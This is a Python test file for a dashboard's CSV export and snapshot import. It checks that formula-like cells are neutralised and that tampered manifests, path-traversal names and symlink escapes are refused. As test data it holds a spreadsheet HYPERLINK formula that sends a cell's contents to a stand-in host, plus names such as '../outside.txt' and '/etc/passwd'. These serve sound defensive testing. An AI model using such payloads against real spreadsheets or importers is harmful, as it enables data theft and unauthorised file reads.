"""CSV formula injection and tampered snapshots (issue 13, items 11 and 12).

Every CSV the dashboard writes opens in a spreadsheet as text, never as a formula; a snapshot
import reads only files its manifest lists and verifies, inside the snapshot folder; an
export never writes over anything.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pandas as pd
import pytest

from lib.csv_safety import TRIGGERS, neutralise_cell, restore_cell, safe_csv_bytes
from lib.export import frame_csv
from lib.snapshot import SnapshotError, export_snapshot, import_snapshot, verify_snapshot
from lib.store import open_store
from tests.fixture_store import make_fixture_store

HOSTILE_CELLS = ["=1+1", "+41 killed", "-2", "@SUM(A1)", "\t=cmd", "\r=cmd", "'=already quoted"]
REASON = '=HYPERLINK("http://127.0.0.2/?"&A1, "see")'
AUTHOR = "@reviewer"
NOTES = "-1 because two were counted twice"


def _cells(data: bytes) -> list[str]:
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text) for cell in row]


def _formula_cells(data: bytes) -> list[str]:
    return [cell for cell in _cells(data) if cell.startswith(TRIGGERS)]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_a_formula_cell_gets_a_leading_quote_and_comes_back_unchanged(cell):
    safe = neutralise_cell(cell)
    assert safe == "'" + cell
    assert restore_cell(safe) == cell


@pytest.mark.parametrize("cell", ["Homs", "", "54", " =not first", "'plain quote", 12, None])
def test_other_cells_round_trip(cell):
    assert restore_cell(neutralise_cell(cell)) == cell


def test_page_and_cli_csv_holds_no_formula():
    frame = pd.DataFrame(
        {
            "sentence": HOSTILE_CELLS,
            "deaths": pd.array([1, 2, 3, 4, 5, 6, 7], dtype="Int64"),
            "governorates": [["SY-HM"], None, None, None, None, None, ["=x", "SY-HI"]],
        }
    )
    for data in (frame_csv(frame), safe_csv_bytes(frame)):
        assert _formula_cells(data) == []
        assert "'=1+1" in _cells(data) and "1" in _cells(data)  # numbers stay numbers


@pytest.fixture
def corrected_store(tmp_path):
    store = open_store(make_fixture_store(tmp_path / "claims.duckdb"))
    claim_id = store.claims().query("claim_type == 'death_toll'")["claim_id"].iloc[0]
    store.correct(claim_id, "notes", NOTES, REASON, AUTHOR)
    store.correct(claim_id, "source", "=EVIL()", REASON, AUTHOR)
    return store


def test_snapshot_csvs_hold_no_formula_and_import_restores_the_text(corrected_store, tmp_path):
    export_snapshot(corrected_store, tmp_path / "snap")
    for name in ("claims.csv", "corrections.csv"):
        data = (tmp_path / "snap" / name).read_bytes()
        assert _formula_cells(data) == [], name
    fresh = open_store(tmp_path / "fresh.duckdb")
    import_snapshot(fresh, tmp_path / "snap")
    log = fresh.corrections()
    assert set(log["reason"]) == {REASON} and set(log["author"]) == {AUTHOR}
    assert set(log["new_value"]) == {NOTES, "=EVIL()"}


@pytest.fixture
def snapshot(corrected_store, tmp_path):
    folder = tmp_path / "snap"
    export_snapshot(corrected_store, folder)
    return folder


def _rewrite_manifest(folder, change) -> None:
    path = folder / "manifest.json"
    manifest = json.loads(path.read_text())
    change(manifest)
    path.write_text(json.dumps(manifest))


def test_an_empty_file_list_does_not_verify_tampered_files(snapshot):
    (snapshot / "corrections.csv").write_text("seq,claim_id\n1,forged\n")
    _rewrite_manifest(snapshot, lambda m: m.update(files={}, content_sha256=hashlib.sha256(
        b"").hexdigest()))  # fmt: skip
    with pytest.raises(SnapshotError, match=r"does not list articles\.jsonl"):
        import_snapshot(open_store(snapshot.parent / "x.duckdb"), snapshot)


@pytest.mark.parametrize("name", ["../outside.txt", "/etc/passwd", "sub/a.txt", "..", "a\\b"])
def test_a_name_outside_the_snapshot_is_refused(snapshot, name):
    (snapshot.parent / "outside.txt").write_text("secret")
    _rewrite_manifest(snapshot, lambda m: m["files"].update({name: "0" * 64}))
    with pytest.raises(SnapshotError, match="not a plain name"):
        verify_snapshot(snapshot)


def test_a_symlink_out_of_the_snapshot_is_refused(snapshot):
    (snapshot.parent / "outside.txt").write_text("secret")
    (snapshot / "link.txt").symlink_to(snapshot.parent / "outside.txt")
    _rewrite_manifest(snapshot, lambda m: m["files"].update({"link.txt": "0" * 64}))
    with pytest.raises(SnapshotError, match="outside the snapshot"):
        verify_snapshot(snapshot)


def test_a_changed_listed_file_is_still_caught(snapshot):
    with (snapshot / "articles.jsonl").open("a") as handle:
        handle.write("{}\n")
    with pytest.raises(SnapshotError, match=r"articles\.jsonl: content differs"):
        verify_snapshot(snapshot)


def test_export_refuses_a_folder_with_files_and_writes_nothing(corrected_store, tmp_path):
    folder = tmp_path / "busy"
    folder.mkdir()
    (folder / "claims.csv").write_text("mine")
    with pytest.raises(SnapshotError, match="not empty"):
        export_snapshot(corrected_store, folder)
    assert [p.name for p in folder.iterdir()] == ["claims.csv"]
    assert (folder / "claims.csv").read_text() == "mine"


def test_export_refuses_an_existing_file_before_writing(corrected_store, tmp_path):
    target = tmp_path / "snapshot.zip"
    target.write_text("not a folder")
    before = sorted(tmp_path.iterdir())
    with pytest.raises(SnapshotError, match="not a folder"):
        export_snapshot(corrected_store, target)
    assert sorted(tmp_path.iterdir()) == before and target.read_text() == "not a folder"
